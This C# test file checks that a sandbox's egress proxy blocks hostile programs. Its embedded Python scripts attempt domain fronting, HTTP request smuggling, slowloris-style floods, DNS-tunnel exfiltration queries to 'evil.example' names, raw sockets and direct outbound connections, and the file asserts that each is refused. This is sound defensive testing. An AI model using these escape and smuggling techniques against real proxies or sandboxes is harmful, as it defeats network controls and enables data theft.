using System.Globalization;
using Akka.Actor;
using Microsoft.AspNetCore.Http;
using static ActorBrowser.CommandProtocol;

namespace ActorBrowser.EgressTests;

/// <summary>Programs that want out another way, or want to harm the way out.</summary>
public sealed class HostileProgramSpecs() : EgressSpecs("actorbrowser.egress.request-timeout = 2s")
{
    // A script in the sandbox, with the proxy's address as P.
    private static string Python(string script, params object[] arguments) =>
        $"cat > $TMPDIR/s.py <<'END'\nimport socket,sys,struct,os,threading,time,errno,ssl\nP=('127.0.0.1',3128)\nA=sys.argv[1:]\ndef talk(data,to=P):\n s=socket.create_connection(to,20);s.sendall(data);s.settimeout(20)\n r=b''\n try:\n  while True:\n   d=s.recv(65536)\n   if not d: break\n   r+=d\n except OSError as e: r+=b'<'+(errno.errorcode.get(e.errno) or 'timeout').encode()+b'>'\n return r\n{script}\nEND\n/usr/bin/python3 $TMPDIR/s.py {string.Join(' ', arguments)}";

    [FactNeeds("curl", "python3")]
    public async Task A_greeting_for_another_host_is_not_passed_on()
    {
        using var certificate = ProgramSpecs.CertificateFor("granted.example");
        var seen = 0;
        await using var site = await Site.StartAsync(context =>
        {
            Interlocked.Increment(ref seen);
            return context.Response.WriteAsync("secret");
        }, certificate: certificate);
        Names.Set("granted.example", ["127.0.0.1"]);
        var rule = $"granted.example:{site.Port} private";
        Assert.Equal("secret", await OutputOfAsync($"curl -sSk -m 20 https://granted.example:{site.Port}/", rule));
        Assert.Equal("secret", await OutputOfAsync($"curl -sSk -m 20 --noproxy '*' https://granted.example:{site.Port}/", rule));
        foreach (var client in new[] { "--connect-to fronted.example:443:granted.example:{0}", "--connect-to fronted.example:443:granted.example:{0} -x socks5h://127.0.0.1:3128", "--connect-to fronted.example:443:granted.example:{0} --noproxy '*'" })
        {
            var run = await RunAsync($"curl -sSk -m 20 {string.Format(CultureInfo.InvariantCulture, client, site.Port)} https://fronted.example/", rule);
            Assert.NotEqual(0, run.Exit!.ExitCode);
            Assert.Contains("names another host, fronted.example", run.Exit.Blocked, StringComparison.Ordinal);
        }
        Assert.Equal(2, seen);
    }

    [FactNeeds("curl", "python3")]
    public async Task A_second_request_behind_a_granted_one_is_not_passed_on()
    {
        var heads = new List<string>();
        await using var server = new RawServer(async (stream, stop) =>
        {
            var head = await RawServer.ReadHeadAsync(stream, stop);
            lock (heads)
                heads.Add(head);
            await stream.WriteAsync("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"u8.ToArray(), stop);
            // A server that keeps the connection: whatever follows would be served.
            stream.ReadTimeout = 2000;
            head = await RawServer.ReadHeadAsync(stream, stop);
            lock (heads)
                heads.Add(head);
        });
        var rule = $"GET http://127.0.0.1:{server.Port}";
        var run = await RunAsync(Python("""
            u=b'http://127.0.0.1:'+A[0].encode()
            s=socket.create_connection(P,20);s.sendall(b'GET '+u+b'/ HTTP/1.1\r\nHost: x\r\n\r\nPOST '+u+b'/evil HTTP/1.1\r\nContent-Length: 0\r\n\r\n')
            r=b''
            while not r.endswith(b'ok'): r+=s.recv(100)
            s.close()
            """, server.Port), rule);
        Assert.True(run.Exit!.ExitCode == 0, run.Error.ToString());
        lock (heads)
        {
            Assert.StartsWith("GET / HTTP/1.1\r\nHost: 127.0.0.1", heads[0], StringComparison.Ordinal);
            Assert.DoesNotContain(heads, static head => head.Contains("evil", StringComparison.Ordinal));
        }
    }

    [FactNeeds("curl", "python3")]
    public async Task The_proxy_answers_nonsense_and_its_own_address_with_a_sentence()
    {
        var output = await OutputOfAsync(Python("""
            for d in (b'GET / HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n', b'\x16\x03\x01\x00\x05hello', b'\x04\x01\x00\x50\x7f\x00\x00\x01\x00', b'GET http://127.0.0.1:3128/ HTTP/1.1\r\n\r\n', b'CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n'):
             print(talk(d).split(b'\r\n')[0].decode())
            print(talk(b'\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50').hex())
            """), "*:*");
        Assert.Equal(["HTTP/1.1 400 Bad Request", "HTTP/1.1 400 Bad Request", "HTTP/1.1 400 Bad Request", "HTTP/1.1 403 Forbidden", "HTTP/1.1 403 Forbidden", "050005070001000000000000"], output.TrimEnd().Split('\n'));
    }

    [TheoryNeeds("curl", "python3")]
    [InlineData(65_536, "403")]
    [InlineData(65_537, "431")]
    [InlineData(1_000_000, "431")]
    public async Task A_head_has_a_limit(int length, string code)
    {
        var output = await OutputOfAsync(Python("""
            n=int(A[0]);h=b'GET http://example.org/ HTTP/1.1\r\nX: ';e=b'\r\n\r\n'
            print(talk(h+b'x'*(n-len(h)-len(e))+e)[9:12].decode())
            """, length));
        Assert.Equal(code, output.Trim());
    }

    [FactNeeds("curl", "python3")]
    public async Task A_program_that_is_too_slow_is_closed_and_others_are_served_meanwhile()
    {
        await using var site = await Site.StartAsync(static context => context.Response.WriteAsync("ok"));
        var output = await OutputOfAsync(Python("""
            slow=[socket.create_connection(P,20) for i in range(100)]
            for i,s in enumerate(slow): s.sendall(b'GET http://a'[:i%12])
            print(talk(b'GET http://127.0.0.1:'+A[0].encode()+b'/ HTTP/1.1\r\n\r\n').decode()[9:12])
            ends=0
            for s in slow:
             s.settimeout(20)
             try:
              while s.recv(1000): pass
             except ConnectionResetError: pass
             ends+=1
            print(ends)
            """, site.Port), $"127.0.0.1:{site.Port}");
        Assert.Equal("200\n100\n", output);
    }

    [FactNeeds("curl", "python3")]
    public async Task More_connections_at_once_than_the_parent_takes_questions_are_all_served()
    {
        await using var server = new RawServer(static async (stream, stop) =>
        {
            var buffer = new byte[64];
            int read;
            while ((read = await stream.ReadAsync(buffer, stop)) > 0)
                await stream.WriteAsync(buffer.AsMemory(0, read), stop);
        });
        var output = await OutputOfAsync(Python("""
            import resource;resource.setrlimit(resource.RLIMIT_NOFILE,(4096,4096))
            c=[socket.create_connection(P,20) for i in range(1500)]
            for s in c: s.sendall(b'CONNECT 127.0.0.1:'+A[0].encode()+b' HTTP/1.1\r\n\r\n')
            for s in c:
             s.settimeout(60);r=b''
             while not r.endswith(b'\r\n\r\n'): r+=s.recv(1)
             assert b' 200 ' in r, r
            for i,s in enumerate(c): s.sendall(str(i).encode())
            print(sum(1 for i,s in enumerate(c) if s.recv(64)==str(i).encode()))
            """, server.Port), $"127.0.0.1:{server.Port}");
        Assert.Equal("1500\n", output);
        Assert.Equal(1500, server.Accepted);
    }

    [FactNeeds("curl", "python3")]
    public async Task A_flood_of_names_takes_nothing_out_and_others_are_answered_after_it()
    {
        Names.Set("granted.example", ["127.0.0.1"]);
        await using var site = await Site.StartAsync(static context => context.Response.WriteAsync("ok"));
        var output = await OutputOfAsync(Python("""
            s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
            def q(n): return b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'+b''.join(bytes([len(l)])+l for l in n.split(b'.'))+b'\x00\x00\x01\x00\x01'
            for i in range(20000): s.sendto(q(b'secret%d.evil.example'%i),('127.0.0.1',53))
            for i in range(40000): s.sendto(q(b'n%d.granted.example'%i),('127.0.0.1',53))
            s.close()
            print(talk(b'GET http://granted.example:'+A[0].encode()+b'/ HTTP/1.0\r\n\r\n')[-2:].decode())
            print(socket.gethostbyname('granted.example')[:4])
            """, site.Port), $"granted.example:{site.Port} private", "*.granted.example");
        Assert.Equal("ok\n198.\n", output);
        Assert.Equal(["granted.example"], Names.Asked.Distinct());
    }

    [FactNeeds("curl", "python3")]
    public async Task Other_ways_out_lead_nowhere()
    {
        var output = await OutputOfAsync(Python("""
            def attempt(name,f):
             try: print(name, f())
             except OSError as e: print(name, errno.errorcode.get(e.errno,e))
            def udp(to):
             s=socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1);s.connect(to);s.send(b'x');return s.recv(100)
            def tcp(to):
             s=socket.create_connection(to,5);s.sendall(b'x');r=s.recv(10);return r or 'closed'
            attempt('raw', lambda: socket.socket(socket.AF_INET,socket.SOCK_RAW,1))
            attempt('icmp', lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1))
            attempt('netlink', lambda: socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0))
            attempt('packet', lambda: socket.socket(socket.AF_PACKET,socket.SOCK_RAW,0))
            attempt('udp', lambda: udp(('8.8.8.8',443)))
            attempt('udp6', lambda: udp(('2001:4860:4860::8888',443)))
            attempt('tcp', lambda: tcp(('8.8.8.8',443)))
            attempt('tcp6', lambda: tcp(('2001:4860:4860::8888',443)))
            attempt('port', lambda: tcp(('8.8.8.8',4444)))
            attempt('fastopen', lambda: socket.socket().sendto(b'x',0x20000000,('8.8.8.8',443)))
            def listen():
             s=socket.socket();s.bind(('127.0.0.1',0));s.listen()
            attempt('listen', listen)
            """));
        var lines = output.Trim().Split('\n').Select(static line => line.Split(' ', 2)).ToDictionary(static line => line[0], static line => line[1]);
        foreach (var refused in new[] { "raw", "icmp", "netlink", "packet", "fastopen", "listen" })
            Assert.True(lines[refused] is "EPERM" or "EACCES", $"{refused}: {lines[refused]}");
        foreach (var refused in new[] { "udp", "udp6", "port" })
            Assert.Equal("ECONNREFUSED", lines[refused]);
        foreach (var refused in new[] { "tcp", "tcp6" })
            Assert.Equal("ECONNRESET", lines[refused]);
    }

    [FactNeeds("curl", "python3")]
    public async Task A_lost_egress_child_ends_its_connections_and_the_next_one_serves_on()
    {
        await using var server = new RawServer(static async (stream, stop) =>
        {
            await RawServer.ReadHeadAsync(stream, stop);
            await stream.WriteAsync("HTTP/1.1 200 OK\r\n\r\nbegun"u8.ToArray(), stop);
            await RawServer.ClosedByPeerAsync(stream, stop);
        });
        await using var site = await Site.StartAsync(static context => context.Response.WriteAsync("ok"));
        var spawned = await StartAsync(Networked(Python("""
            print(b'begun' in talk(b'GET http://127.0.0.1:'+A[0].encode()+b'/ HTTP/1.1\r\n\r\n'),flush=True)
            print(talk(b'GET http://127.0.0.1:'+A[1].encode()+b'/ HTTP/1.0\r\n\r\n')[-2:].decode())
            """, server.Port, site.Port), $"127.0.0.1:{server.Port}", $"127.0.0.1:{site.Port}"));
        await AwaitConditionAsync(() => Task.FromResult(server.Accepted == 1), Deadline.Long, Deadline.Often);
        foreach (var process in System.Diagnostics.Process.GetProcesses().Where(static process => IsEgressOf(process.Id)))
            process.Kill();
        var end = (await Browser.Ask<Waited>(new Wait(spawned.Handle), Deadline.Long * 4)).Snapshot;
        Assert.Equal("True\nok\n", end.Output.ToString());
        Assert.Contains("The egress of this command was lost", end.Error.ToString(), StringComparison.Ordinal);
    }

    private static bool IsEgressOf(int processId)
    {
        try
        {
            var line = File.ReadAllText($"/proc/{processId}/cmdline");
            return line.Contains("--subprocess-kind\0egress", StringComparison.Ordinal)
                && File.ReadAllText($"/proc/{processId}/stat").Split(')')[1].Split(' ')[2] == Environment.ProcessId.ToString(CultureInfo.InvariantCulture);
        }
        catch (IOException)
        {
            // It has ended.
            return false;
        }
    }
}
